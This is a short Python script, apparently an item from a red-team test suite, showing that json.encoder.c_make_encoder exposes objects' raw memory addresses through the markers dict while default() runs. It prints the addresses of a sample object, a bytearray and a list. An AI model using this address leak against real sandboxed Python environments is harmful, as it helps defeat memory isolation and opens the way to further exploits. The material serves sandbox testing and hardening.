# technique: json.encoder.c_make_encoder(markers, default, ...) keeps each list, dict or default() object's real address (PyLong_FromVoidPtr) as a key of the caller's markers dict while default() runs: the heap's layout read off the dict, past every keyed repr and id (red-team pass 66)
# expect: any
import json

class Z: pass
def leak_keys(obj):
    m = {}
    got = []
    def default(o):
        got.extend(m.keys())   # keys are the raw addresses of the containers being encoded and of o
        return None
    f = json.encoder.c_make_encoder(m, default, json.encoder.c_encode_basestring,
                                    None, ":", ",", False, False, True)
    f(obj, 0)
    return got

def addr_of(obj):
    return leak_keys([obj])[-1]

class Target: pass
t = Target()
print("addr(t) =", hex(addr_of(t)), " repr:", repr(t))
b = bytearray(b"A" * 64)
print("addr(bytearray) =", hex(addr_of(b)))
lst = [1, 2, Z()]
print("addr(list) =", hex(leak_keys(lst)[0]))
